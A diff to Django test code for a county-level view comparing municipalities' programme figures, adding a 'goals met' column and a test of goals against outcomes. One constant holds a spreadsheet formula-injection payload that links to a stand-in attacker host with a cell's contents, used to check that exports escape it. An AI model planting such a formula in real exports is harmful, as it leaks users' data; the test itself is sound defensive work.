@@ -15,6 +15,7 @@ from analysis.services import service_analysis_run
 from analysis.tests.test_views import table
 from outlets.models import Outlet
 from outlets.tests.factories import OutletFactory, municipality
+from programme.tests.factories import ProgrammeGoalsFactory
 from region.tests.worlds import county_of, in_force, two_municipalities
 
 pytestmark = pytest.mark.django_db
@@ -53,14 +54,31 @@ def test_the_regional_viewer_sees_each_municipalitys_programme_side_by_side(
     assert response.status_code == 200
     rows = table(response, "Kommunerna 2026")
     # Outlets, service points, agreements in force, budget, committed, paid,
-    # follow-ups done and due.
+    # follow-ups done and due, goals met.
     assert row_of(rows, "Nordmaling")[1:] == [
-        "2", "1", "1", "–", "40 000", "20 000", "0", "0"
+        "2", "1", "1", "–", "40 000", "20 000", "0", "0", "–"
     ]  # fmt: skip
-    assert row_of(rows, "Umeå")[1:] == ["1", "0", "0", "–", "0", "0", "0", "0"]
+    assert row_of(rows, "Umeå")[1:] == ["1", "0", "0", "–", "0", "0", "0", "0", "–"]
     # Every municipality of the county, with or without outlets.
     assert len(rows) == 15 + 1
     assert rows[-1][:4] == ["Länet", "3", "1", "1"]
+
+
+def test_each_municipalitys_goals_stand_against_its_outcome(
+    client, regional_viewer, shops
+):
+    in_force(shops["A"], year=2025)
+    ProgrammeGoalsFactory(year=2025, service_points=1, staff_trained=2)
+    client.force_login(regional_viewer)
+
+    response = client.get(COUNTY, {"year": 2025})
+
+    assert row_of(table(response, "Kommunerna 2025"), "Nordmaling")[-1] == "1 av 2"
+    assert row_of(table(response, "Kommunerna 2025"), "Umeå")[-1] == "–"
+    assert table(response, "Programmets mål 2025") == [
+        ["Nordmaling", "Servicepunkter med avtal i kraft", "1", "1", "Uppnått"],
+        ["Nordmaling", "Utbildad personal", "2", "0", "Ej uppnått"],
+    ]
 
 
 def test_the_county_analysis_shows_people_by_band_per_municipality(
@@ -225,7 +243,7 @@ HOSTILE = '=HYPERLINK("http://evil.example/"&C3,"Öppna")'
 @pytest.mark.parametrize(
     ("wanted", "first_row"),
     [
-        ("municipalities", ["Bjurholm", "0", "0", "0", "", "0", "0", "0", "0"]),
+        ("municipalities", ["Bjurholm", "0", "0", "0", "", "0", "0", "0", "0", ""]),
         ("bands", ["Bjurholm", "", "", "", "", "", "", "Ingen befolkning importerad"]),
         ("borders", ["Byn U", "Umeå", "'" + HOSTILE, "Nordmaling", "2,9", "ingen", ""]),
         ("shared", ["'" + HOSTILE, "Nordmaling", "2", "40", "40"]),
